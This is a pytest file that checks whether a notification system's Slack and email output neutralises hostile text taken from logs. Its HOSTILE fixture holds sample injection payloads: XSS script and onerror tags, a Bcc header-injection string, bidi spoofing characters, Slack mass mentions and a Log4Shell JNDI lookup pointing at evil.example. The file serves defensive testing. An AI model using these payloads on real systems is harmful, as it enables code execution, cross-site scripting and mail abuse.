"""Scenario 44: mentions, markup, control characters and oversized strings from logs are inert wherever shown."""

import json
from datetime import UTC, datetime
from typing import Any
from uuid import UUID

import pytest
from sqlalchemy import text

from deployments.demo.fake_slack.limit import message_error
from spine.message import Message, Question, Section
from spine.notification import Topic
from spine.plain import clean, cut, markup, slack
from spine.settings import Settings
from spine.severity import Severity
from tasks.notifiers.email import render
from tasks.notifiers.slack import blocks

HOSTILE = {
    "mention": "<!channel> <!here> <@U1> <!subteam^S1>",
    "link": "<https://evil.example|click here> & <b>bold</b>",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "control": "a\x00b\x07c\x1b[31mred\x1b[0m\r\nBcc: all@example.org",
    "bidi": "user\u202egnp.exe\u2066\u200b",
    "surrogate": "broken \ud800 text",
    "long": "A" * 100_000,
    "long-escaped": "<" * 100_000,
    "jndi": "${jndi:ldap://evil.example/a}",
}
EVERY = pytest.mark.parametrize("text_", list(HOSTILE.values()), ids=list(HOSTILE))


def _message(text_: str) -> Message:
    return Message(
        id=UUID(int=1), tenant=text_, topic=Topic.APPROVAL_REQUESTED, severity=Severity.HIGH,
        at=datetime(2026, 3, 1, tzinfo=UTC), title=text_, headline=text_,
        sections=(Section("Evidence", (text_,) * 20),),
        question=Question(approval=UUID(int=2), open=True, verdict=text_),
    )  # fmt: skip


@EVERY
def test_s44_slack_shows_it_as_plain_escaped_text_within_its_limits(text_: str) -> None:
    made = blocks(_message(text_))
    assert message_error("text", made) is None
    for block in made:
        shown = block.get("text", {}).get("text", "")
        assert block.get("text", {}).get("type") != "mrkdwn" or shown == "*Evidence*"
        assert not set(shown) & set("<>\x00\x1b\r\u202e\u2066")
    json.dumps(made, ensure_ascii=False).encode()


@EVERY
@pytest.mark.parametrize("limit", [1, 20, 150, 3000])
def test_s44_escaping_never_exceeds_the_limit_nor_cuts_an_entity(text_: str, limit: int) -> None:
    shown = slack(text_, limit)
    assert len(shown) <= limit
    assert "&" not in shown.replace("&amp;", "").replace("&lt;", "").replace("&gt;", "")


@EVERY
def test_s44_mail_has_no_injected_header_and_no_markup(text_: str) -> None:
    settings = Settings(admin_email="ops@example.org")
    mail = render(_message(text_), settings)
    mail.as_bytes()
    page = mail.get_body(("html",)).get_content()  # type: ignore[union-attr]
    assert mail["Bcc"] is None
    assert len(mail["Subject"]) <= 200
    assert "<script" not in page
    assert "<img" not in page
    assert not set(page) & set("\x00\x1b\u202e")
    assert mail["Message-ID"] == "<00000000-0000-0000-0000-000000000001@opsspine>"


def test_s44_what_is_cut_says_so_and_what_is_short_is_untouched() -> None:
    assert cut("abc", 3) == "abc"
    assert cut("x" * 500, 100).endswith("… [cut, 500 characters in all]")
    assert len(cut("x" * 500, 100)) == 100
    assert clean("a\n\tb  c") == "a b c"
    assert clean("naïve 漢字 🙂") == "naïve 漢字 🙂"
    assert markup('"<a>&') == "&quot;&lt;a&gt;&amp;"


@pytest.mark.parametrize("name", ["mention", "html", "control", "bidi", "long-escaped"])
def test_s44_a_prompt_about_a_hostile_incident_is_delivered_inert(slack_case: Any, name: str) -> None:
    case = slack_case.case
    stored = HOSTILE[name].replace("\x00", "")
    summary = {
        "addresses": [stored[:300]] * 9, "addresses_total": 9,
        "detectors": {stored[:300]: {"n": 1, "window_minutes": 5, "margin": 2.0}},
    }  # fmt: skip
    with case.database.system() as connection:
        connection.execute(
            text("update incidents set title = :title, summary = cast(:summary as jsonb)"),
            {"title": stored, "summary": json.dumps(summary)},
        )
    case.ask(requester=stored[:2000])
    assert slack_case.relay() == 1
    shown = json.dumps(slack_case.prompt["blocks"], ensure_ascii=False) + slack_case.prompt["text"]
    assert not set(shown) & set("<>\x1b\u202e")
    assert len(slack_case.prompt["buttons"]) == 2
